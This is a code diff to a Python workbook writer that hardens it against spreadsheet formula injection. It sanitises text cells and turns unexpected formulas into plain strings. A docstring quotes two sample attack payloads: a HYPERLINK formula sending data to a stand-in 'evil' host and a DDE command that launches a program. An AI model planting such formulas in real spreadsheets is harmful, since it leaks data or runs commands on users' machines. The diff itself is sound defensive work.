@@ -1,4 +1,4 @@
-"""Write result tables to an .xlsx workbook safely: through `planner.outputs` (temporary file, rename)."""
+"""Write result tables to an .xlsx workbook safely: text stays text, files go through `planner.outputs`."""
 from __future__ import annotations
 
 import json
@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pandas as pd
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 
@@ -18,6 +19,7 @@ TONNES = "#,##0.0"
 MONEY = "#,##0.00"
 PERCENT = "0.0%"
 HEADER_FONT = Font(bold=True)
+MAX_CELL_TEXT = 32767  # Excel's limit on the characters of one cell
 
 
 def number_format(column: str) -> str | None:
@@ -31,10 +33,17 @@ def number_format(column: str) -> str | None:
     return None
 
 
+def safe_text(text: str) -> str:
+    """Text a workbook can hold: control characters replaced, at most Excel's 32,767 characters."""
+    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)[:MAX_CELL_TEXT]
+
+
 def cell_value(value):
-    """A value Excel can hold: no NaN or infinities (left blank), plain Python types."""
+    """A value Excel can hold: no NaN or infinities (left blank), plain Python types, safe text."""
     if value is None:
         return None
+    if isinstance(value, str):
+        return safe_text(value)
     if isinstance(value, float) and not math.isfinite(value):
         return None
     if hasattr(value, "item"):  # numpy scalar
@@ -77,8 +86,18 @@ def write_workbook(sheets: dict[str, pd.DataFrame], target: Path, decorate=None)
     save_workbook(wb, target)
 
 
-def save_workbook(wb, target: Path) -> None:
-    """Save a workbook reeplan made through planner.outputs (every workbook writer ends here)."""
+def save_workbook(wb, target: Path, keep_formulas: frozenset = frozenset()) -> None:
+    """Save a workbook reeplan made through planner.outputs (every workbook writer ends here).
+
+    Text stays text: openpyxl stores a string starting with '=' as a formula, so a name such as
+    `=HYPERLINK("http://evil/?"&A1)` or a DDE payload `=cmd|' /C calc'!A0` would run in the planner's
+    spreadsheet. reeplan writes no formulas of its own; `keep_formulas` ((sheet title, coordinate)) are
+    formulas of the planner's own input workbook, kept in a validation report.
+    """
+    for ws in wb.worksheets:
+        for cell in ws._cells.values():  # only the cells that exist; iter_rows would create the rest
+            if cell.data_type == "f" and isinstance(cell.value, str) and (ws.title, cell.coordinate) not in keep_formulas:
+                cell.data_type = "s"
     with staged(target) as tmp:
         wb.save(tmp)
 
